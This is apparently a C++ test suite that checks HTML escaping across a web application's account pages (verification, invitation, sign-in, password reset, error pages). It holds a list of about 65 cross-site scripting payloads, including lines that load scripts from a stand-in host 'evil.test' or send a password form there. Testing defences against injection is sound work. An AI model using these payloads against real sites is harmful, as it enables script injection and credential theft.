#include "pages/fixture_test.h"
#include "pages/html.h"
#include "pages/rows.h"
#include "pages/visitor.h"

namespace gatehouse::pages {
namespace {

/// What people put into names and addresses to break out of text, attributes, comments and titles.
const std::vector<std::string> kPayloads{
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "\"><script>alert(1)</script>",
    "'><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "<!--",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml version=\"1.0\"?>",
    "<!doctype html>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" onerror=\"alert(1)\">",
    "<img/src/onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert`1`>",
    "<svg><animate onbegin=alert(1)>",
    "<svg><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<iframe src=javascript:alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<meta http-equiv=refresh content=\"0;url=//evil.test\">",
    "<form action=//evil.test><input name=password>",
    "</form><form action=//evil.test>",
    "<button formaction=//evil.test>x",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<audio src onerror=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<plaintext>",
    "<style>*{background:url(//evil.test)}</style>",
    "<x onclick=alert(1)>x",
    "<x/onclick=alert(1)//",
    "<",
    "<a",
    "</",
    "< script >alert(1)</ script >",
    "<script\n>alert(1)</script\n>",
    "<script\t>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "\" onmouseover=\"alert(1)",
    "' onmouseover='alert(1)",
    "\" autofocus onfocus=alert(1) x=\"",
    "x\" style=\"position:fixed;inset:0\" y=\"",
    "javascript:alert(1)",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&quot; onclick=&quot;alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>{}",
    "\u202e<script>",
    "\u2028<script>\u2029",
    "%3Cscript%3Ealert(1)%3C/script%3E",
};

class EscapingTest : public PagesFixture {
 protected:
  /// A page made with a payload has the tags and attributes of one made with a harmless word, and says the payload.
  template <class Make>
  void expect_text_only(Make make, bool is_shown = true) {
    const std::string harmless = shape_of_markup(make("harmless").body);
    for (const std::string& payload : kPayloads) {
      SCOPED_TRACE(payload);
      const http::Response page = make(payload);
      EXPECT_EQ(shape_of_markup(page.body), harmless);
      if (is_shown) {
        EXPECT_THAT(unescape_html(page.body), testing::HasSubstr(payload));
      }
    }
  }

  static http::Request request() { return to(http::Method::get, "/"); }
};

static_assert(!std::is_constructible_v<Html, std::string> && !std::is_constructible_v<Html, const char*>);
static_assert(!std::is_constructible_v<detail::Slot, base::Secret>);

TEST_F(EscapingTest, ThereAreSixtyPayloads) { EXPECT_GE(kPayloads.size(), 60u); }

TEST_F(EscapingTest, TheReaderOfTheseTestsSeesWhatBreaksOut) {
  EXPECT_NE(shape_of_markup("<p>harmless</p>"), shape_of_markup("<p><script>alert(1)</script></p>"));
  EXPECT_NE(shape_of_markup("<p id=\"harmless\">"), shape_of_markup("<p id=\"\" onmouseover=\"alert(1)\">"));
  EXPECT_ANY_THROW(shape_of_markup("<p><</p>"));
}

TEST_F(EscapingTest, HtmlEscapesValuesAndKeepsMarkup) {
  const std::string value = "<b>\"&'{}";
  EXPECT_EQ(html("<p title=\"{}\">{}{}</p>", value, value, html("<i>{}</i>", "<")).text(),
            "<p title=\"&lt;b&gt;&quot;&amp;&#39;{}\">&lt;b&gt;&quot;&amp;&#39;{}<i>&lt;</i></p>");
}

TEST_F(EscapingTest, VerificationPage) {
  expect_text_only([](const std::string& name) {
    return verification_page({{"ada@example.com"}, name, base::Time{}}, base::Secret("gve_token"), Words());
  });
  expect_text_only([](const std::string& address) {
    return verification_page({{address}, "Acme", base::Time{}}, base::Secret("gve_token"), Words());
  });
}

TEST_F(EscapingTest, InvitationPage) {
  domain::ShownInvitation invitation;
  invitation.recipient.text = "bob@example.com";
  invitation.inviter = base::EmailAddress{"ada@example.com"};
  invitation.inviter_message = "Welcome";
  invitation.role.name = "member";
  invitation.organization.name = "Acme";
  std::optional<domain::PublicBrand> brand = domain::PublicBrand{{"Acme", {}, "https://acme.example/", {}, {}},
                                                                 domain::LogoView{"/logo.png", "image/png", 1, 1}};
  const auto check = [&](std::string& member) {
    const std::string before = member;
    expect_text_only([&](const std::string& payload) {
      member = payload;
      return invitation_page(invitation, brand, base::Secret("gin_token"), nullptr, request(), Words());
    });
    member = before;
  };
  check(invitation.organization.name);
  check(invitation.role.name);
  check(invitation.recipient.text);
  check(invitation.inviter->text);
  check(*invitation.inviter_message);
  check(brand->brand.name);
  check(brand->brand.privacy_url);
  check(brand->logo->url);
  brand->logo.reset();
  check(brand->brand.name);
}

TEST_F(EscapingTest, EmailChangePage) {
  expect_text_only([&](const std::string& payload) {
    return email_change_page({{payload}, {"ada@example.com"}, {}}, base::Secret("gce_token"), Words());
  });
  expect_text_only([&](const std::string& payload) {
    return email_change_page({{"ada@example.com"}, {payload}, {}}, base::Secret("gce_token"), Words());
  });
}

TEST_F(EscapingTest, TokensOfLinks) {
  expect_text_only([&](const std::string& token) { return get("/reset-password", {{"token", token}}); });
}

TEST_F(EscapingTest, TypedValuesOfRefusedForms) {
  services_.settings.limits_enabled = false;
  expect_text_only([&](const std::string& typed) {
    return post("/reset-password", {{"email", typed == "harmless" ? "harm less" : typed}});
  });
  expect_text_only([&](const std::string& typed) {
    return post("/sign-in", {{"email", "x " + typed}, {"password", "x"}, {"organization", typed}, {"kept", typed}});
  });
  expect_text_only([&](const std::string& typed) {
    return post("/sign-up", {{"email", "x x"}, {"name", typed}, {"organization_name", typed}, {"password", "short"}});
  });
  expect_text_only([&](const std::string& typed) {
    return post("/setup", {{"token", typed}, {"email", "x x"}, {"password", "short"}});
  });
}

TEST_F(EscapingTest, OrganizationAndWayOfTheSignInPage) {
  expect_text_only([&](const std::string& name) { return get("/sign-in", {{"organization", name}}); });
  // A payload is no path of ours; one in a query of it is, as far as it has no second slash and nothing but ASCII.
  expect_text_only([&](const std::string& text) { return get("/sign-in", {{"return_to", text}}); }, false);
  expect_text_only(
      [&](const std::string& text) {
        return get("/sign-in", {{"return_to", "/a?b=" + base::escape_url(text)}});
      },
      false);
}

TEST_F(EscapingTest, ResumePage) {
  expect_text_only([&](const std::string& typed) {
    return resume_page(services_, {}, "/account/profile", "name=" + base::escape_url(typed), Words());
  });
}

TEST_F(EscapingTest, UnknownFieldsOfRefusedForms) {
  // Shown, but with the slashes that a JSON pointer escapes.
  expect_text_only([&](const std::string& name) { return post("/reset-password", {{"x" + name, "1"}}); }, false);
}

TEST_F(EscapingTest, ProblemPage) {
  expect_text_only([&](const std::string& text) {
    return problem_page({&base::kInvalidRequest, text, {}, std::nullopt}, request());
  });
  expect_text_only([&](const std::string& text) {
    return problem_page({&base::kInvalidRequest, "x", {{"/x" + text, "is wrong"}}, std::nullopt}, request());
  });
  expect_text_only([&](const std::string& text) {
    return problem_page({&base::kInvalidRequest, "x", {{"/x", text}}, std::nullopt}, request());
  });
  expect_text_only([&](const std::string& text) {
    http::Request asked = request();
    asked.request_id = text;
    return problem_page({&base::kNotFound, "x", {}, std::nullopt}, asked);
  });
}

TEST_F(EscapingTest, NamesThatPassedSignUp) {
  int accepted = 0;
  for (const std::string& payload : kPayloads) {
    services_.settings.limits_enabled = false;
    const std::string email = "ada" + std::to_string(accepted) + "@example.com";
    const auto signed_up =
        domain::sign_up(services_, caller_, {{email}, base::Secret(std::string(kPassword)), payload, std::nullopt});
    if (!signed_up) continue;
    ++accepted;
    SCOPED_TRACE(payload);
    const auto page = get("/verify-email", {{"token", mailed_token(email, "/verify-email")}});
    EXPECT_EQ(page.status, 200);
    EXPECT_THAT(unescape_html(page.body), testing::HasSubstr(signed_up->organization.name));
    EXPECT_EQ(forms_of(page.body).size(), 2u);
    for (const Tag& tag : tags_of(page.body)) {
      EXPECT_NE(tag.name, "script");
      EXPECT_NE(tag.name, "img");
      for (const auto& [name, value] : tag.attributes) EXPECT_FALSE(name.starts_with("on")) << name;
    }
  }
  EXPECT_GT(accepted, 20) << "most payloads should reach the page";
}

}  // namespace
}  // namespace gatehouse::pages
